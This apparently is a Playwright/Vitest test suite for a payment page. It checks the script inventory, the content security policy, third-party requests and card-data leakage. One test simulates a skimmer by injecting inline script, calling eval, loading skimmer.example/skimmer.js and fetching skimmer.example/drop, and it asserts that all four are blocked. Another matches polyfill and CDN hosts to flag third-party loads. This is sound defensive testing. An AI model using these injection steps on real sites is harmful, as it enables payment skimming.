import { createHash } from 'node:crypto';
import { globSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import type { Page, Request } from 'playwright-core';
import { describe, expect, it, onTestFinished } from 'vitest';
import { useProduct } from '#tests/support/product/product';
import { useBrowser } from '../support/browser/browser.ts';
import { until } from '../support/product/product.ts';
import { sql } from '../whole/expect-money.ts';
import {
  banner,
  draw,
  expectText,
  fillCard,
  fillDetails,
  openForm,
  payButton,
  payerPage,
  successHeading,
} from './payer.ts';

const product = useProduct();
const newPage = useBrowser();
const app = new URL(product.appUrl).origin;
const provider = new URL(product.sandboxUrl).origin;

/** Makes a full payment and records every request of the browser. */
async function payAndLog(page: Page, card?: string, code?: string): Promise<{ requests: Request[]; number: string }> {
  const { address, number } = await product.makeLink();
  const requests: Request[] = [];
  page.on('request', (request) => requests.push(request));
  await openForm(page, address);
  // Also loads the code that is needed only after an error.
  await payButton(page).click();
  await expectText(banner(page), /^Please fill in/);
  await fillDetails(page);
  await fillCard(page, card, code);
  await draw(page);
  await payButton(page).click();
  await successHeading(page).waitFor();
  return { requests, number };
}

describe('scripts of the pay page', () => {
  type Inventory = {
    /** `only`: the pages that load the script, if not all do. */
    scripts: { url: string; only?: string }[];
    inline: { hash: string }[];
  };
  const inventory = JSON.parse(readFileSync('docs/script-inventory.json', 'utf8')) as Inventory;
  /**
   * The script's name in the inventory: builds change the hash in a file name, settings change the provider's
   * address.
   */
  const nameOf = (url: string) =>
    url
      .replace(provider, '{provider}')
      .replace(app, '')
      .replace(/\.[\w-]{8}\.js$/, '.*.js');

  /** The names of the scripts that the page itself has requested, in order. */
  const scriptsOf = (page: Page, requests: Request[]) => {
    const scripts = requests.filter(
      (request) => request.resourceType() === 'script' && request.frame() === page.mainFrame(),
    );
    return [...new Set(scripts.map((request) => nameOf(request.url())))].sort();
  };

  it('where the business accepts wallets, the scripts are all those of the inventory', async () => {
    const script = await (await fetch(`${product.sandboxUrl}/gp/p/js/pay.js`)).text();
    await sql(product, 'UPDATE accounts SET takes_google_pay = 1');
    await product.sandbox('settings', { google_script: 'google' });
    onTestFinished(async () => {
      await sql(product, 'UPDATE accounts SET takes_google_pay = 0');
      await product.sandbox('settings', { google_script: 'simulated' });
    });
    const page = await payerPage(newPage);
    await page.route('https://pay.google.com/**', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: script }),
    );
    const { requests } = await payAndLog(page);
    expect(scriptsOf(page, requests)).toEqual(inventory.scripts.map(({ url }) => url).sort());
  });

  it('the scripts match the inventory, with none unlisted and none stale', async () => {
    const page = await payerPage(newPage);
    const { requests } = await payAndLog(page);
    const common = inventory.scripts.filter(({ only }) => only === undefined);
    expect(scriptsOf(page, requests)).toEqual(common.map(({ url }) => url).sort());

    const inline = await page.evaluate(() =>
      [...document.scripts].filter(({ src, type }) => !src && type !== 'application/json').map(({ text }) => text),
    );
    const hashes = inline.map((text) => `sha256-${createHash('sha256').update(text).digest('base64')}`);
    expect([...new Set(hashes)].sort(), 'npm run registers writes the hashes').toEqual(
      inventory.inline.map(({ hash }) => hash).sort(),
    );
  });
});

describe('content security policy of the pay page', () => {
  it('allows only our own files, hashed inline scripts and one provider', async () => {
    const { address } = await product.makeLink();
    const response = await fetch(address);
    const policy = Object.fromEntries(
      (response.headers.get('content-security-policy') ?? '').split('; ').map((part) => {
        const [name = '', ...sources] = part.split(' ');
        return [name, sources];
      }),
    );
    const { 'script-src': scripts = [], 'style-src': styles = [], ...otherDirectives } = policy;
    expect(otherDirectives).toEqual({
      'default-src': ["'none'"],
      'img-src': ["'self'", 'data:', 'blob:'],
      'font-src': ["'self'"],
      'connect-src': ["'self'", provider],
      'frame-src': [provider],
      'manifest-src': ["'self'"],
      'base-uri': ["'none'"],
      'object-src': ["'none'"],
      'form-action': ["'self'"],
      'frame-ancestors': ["'none'"],
      'report-uri': ['/api/csp-report'],
      'report-to': ['csp'],
    });
    const isHash = (source: string) => /^'sha256-[\w+/]{43}='$/.test(source);
    expect(scripts.filter((source) => !isHash(source))).toEqual(["'self'", provider]);
    expect(styles.filter((source) => !isHash(source))).toEqual(["'self'"]);
    expect(response.headers.get('reporting-endpoints')).toBe('csp="/api/csp-report"');
    expect(await response.text()).not.toMatch(/http-equiv="?content-security-policy/i);
  });

  it('blocks an injected inline script, eval, a foreign script and a foreign request, and reports all four', async () => {
    const { address } = await product.makeLink();
    // A fulfilled response has no address, so the browser blocks requests from the page to the local provider.
    const page = await payerPage(newPage, { expected: /Content Security Policy|`loopback` address space|ERR_FAILED/ });
    // Over plain HTTP this browser ignores `report-to`; over HTTPS it uses that and not `report-uri`.
    await page.route(address, async (route) => {
      const response = await route.fetch();
      const policy = response.headers()['content-security-policy']?.replace('; report-to csp', '') ?? '';
      await route.fulfill({ response, headers: { ...response.headers(), 'content-security-policy': policy } });
    });
    const reports: Request[] = [];
    page.on('request', (request) => {
      if (request.url() === `${app}/api/csp-report`) reports.push(request);
    });
    await page.goto(address);

    const foreign = 'http://skimmer.example';
    const violations: string[] = [];
    await page.exposeFunction('tellTest', (violation: string) => violations.push(violation));
    const answer = await page.evaluate(async (address) => {
      const { tellTest } = window as unknown as { tellTest(violation: string): void };
      addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
        tellTest(`${effectiveDirective} ${blockedURI}`),
      );
      const inline = document.createElement('script');
      inline.textContent = 'document.title = "skimmed"';
      document.head.appendChild(inline);
      // Runs outside the debugger's own call, which the policy does not restrict.
      await new Promise<void>((resolve) => {
        setTimeout(() => {
          try {
            // biome-ignore lint/security/noGlobalEval: the policy must block it
            window.eval('document.title = "skimmed"');
          } catch {
            // The policy blocked it.
          }
          resolve();
        });
      });
      const script = document.createElement('script');
      script.src = `${address}/skimmer.js`;
      const failed = new Promise((resolve) => script.addEventListener('error', resolve));
      document.head.appendChild(script);
      await failed;
      return fetch(`${address}/drop`).then(
        () => 'sent',
        () => 'stopped',
      );
    }, foreign);
    expect(answer).toBe('stopped');
    await expect.poll(() => violations.length).toBe(4);
    expect(violations).toEqual([
      'script-src-elem inline',
      'script-src eval',
      `script-src-elem ${foreign}/skimmer.js`,
      `connect-src ${foreign}/drop`,
    ]);
    expect(await page.title()).not.toBe('skimmed');

    await expect.poll(() => reports.length).toBe(4);
    const answers = await Promise.all(reports.map((report) => report.response()));
    expect(answers.map((answer) => answer?.status())).toEqual([204, 204, 204, 204]);
  });

  it('accepts reports in the format of newer browsers too', async () => {
    const response = await fetch(`${product.appUrl}/api/csp-report`, {
      method: 'POST',
      headers: { 'content-type': 'application/reports+json' },
      body: JSON.stringify([
        {
          type: 'csp-violation',
          body: { effectiveDirective: 'script-src-elem', blockedURL: 'http://skimmer.example/' },
        },
      ]),
    });
    expect(response.status).toBe(204);
  });
});

describe('third parties', () => {
  it('only the provider receives requests during a payment', async () => {
    const page = await payerPage(newPage);
    const { requests } = await payAndLog(page);
    const urls = requests
      .map((request) => new URL(request.url()))
      .filter(({ protocol }) => protocol.startsWith('http'));
    expect([...new Set(urls.map(({ origin }) => origin))].sort()).toEqual([app, provider].sort());
    const providerPaths = new Set(urls.filter(({ origin }) => origin === provider).map(({ pathname }) => pathname));
    for (const pathname of providerPaths) expect(pathname).toMatch(/^\/(js-sdk\/|rest\/v2\/mobilejwt\/manual$)/);
    expect(providerPaths.has('/js-sdk/js/clearent-host.js')).toBe(true);
  });

  it('the built client has no third-party address, least of all a polyfill host', () => {
    const client = path.join(product.state, 'site/client');
    const files = globSync('**/*.{html,js,css,svg,json,webmanifest}', { cwd: client });
    expect(files.some((file) => file.endsWith('.js'))).toBe(true);
    for (const file of files) {
      const text = readFileSync(path.join(client, file), 'utf8');
      expect(text, file).not.toMatch(/polyfill[\w.-]*\.(?:io|com|net|top)|cdn\.|unpkg|jsdelivr|googleapis|gstatic/i);
      const loads = text.matchAll(/(?:\bsrc=|\burl\(|\bimport\(|\bfrom)\s*["']?(?:https?:)?\/\/[^"')\s]+/g);
      expect(
        [...loads].map(([load]) => load),
        file,
      ).toEqual([]);
    }
  });
});

describe('card data', () => {
  const CARD = '371449635398431';
  const CODE = '7316';
  const cardPattern = new RegExp([...CARD].join('[ .-]?'));
  // The four digits as a separate word; within a longer word they are a coincidence.
  const codePattern = new RegExp(`(?<![\\w+/=.-])${CODE}(?![\\w+/=.-])`);

  /** Reads everything that the product stores on this machine: D1, the clinics' objects, R2 and the Worker's log. */
  const storedFiles = () => {
    const files = globSync(['v3/**', 'product.log'], { cwd: product.state }).filter((file) =>
      statSync(path.join(product.state, file)).isFile(),
    );
    return files.map((file) => ({ file, text: readFileSync(path.join(product.state, file), 'latin1') }));
  };
  const hasText = (part: string, text: string) =>
    storedFiles().some((stored) => stored.file.includes(part) && stored.text.includes(text));

  it('reaches none of our requests, logs, databases, files or browser storage when typed into the frame', async () => {
    const page = await payerPage(newPage);
    const { requests, number } = await payAndLog(page, CARD, CODE);
    const find = 'SELECT id FROM payment_attempts WHERE invoice_number = ?';
    const [attempt] = await sql<{ id: string }>(product, find, number);
    if (!attempt) throw new Error('the payment is not in the database');

    const ownRequests = requests.filter((request) => request.url().startsWith(app));
    const pay = ownRequests.find((request) => request.url().includes('/takePaymentSDK/'));
    expect(pay?.postDataJSON()).toMatchObject({ firstName: 'Marta', paymentDetails: { jwt: expect.any(String) } });
    for (const request of ownRequests) {
      const content = `${request.url()}\n${JSON.stringify(request.headers())}\n${request.postData() ?? ''}`;
      expect(content, request.url()).not.toMatch(cardPattern);
      expect(content, request.url()).not.toMatch(codePattern);
    }
    const token = requests.find((request) => request.url().includes('/mobilejwt/'))?.postData() ?? '';
    expect(token, 'the frame sends the number to the provider').toMatch(cardPattern);
    expect(token).toMatch(codePattern);

    const storage = await page.context().storageState({ indexedDB: true });
    const session = await page.evaluate(() => JSON.stringify({ ...sessionStorage }));
    expect(storage).toEqual({ cookies: [], origins: [] });
    expect(session).toBe('{}');

    // Makes sure that the searched files have this payment.
    await until(
      async () => ({ database: hasText('/do/', number), log: hasText('product.log', attempt.id) }),
      ({ database, log }) => database && log,
    );
    const files = storedFiles();
    expect(files.some(({ file }) => file.includes('/r2/'))).toBe(true);
    const leaks = files.filter(({ text }) => cardPattern.test(text) || codePattern.test(text));
    expect(leaks.map(({ file }) => file)).toEqual([]);
  });
});
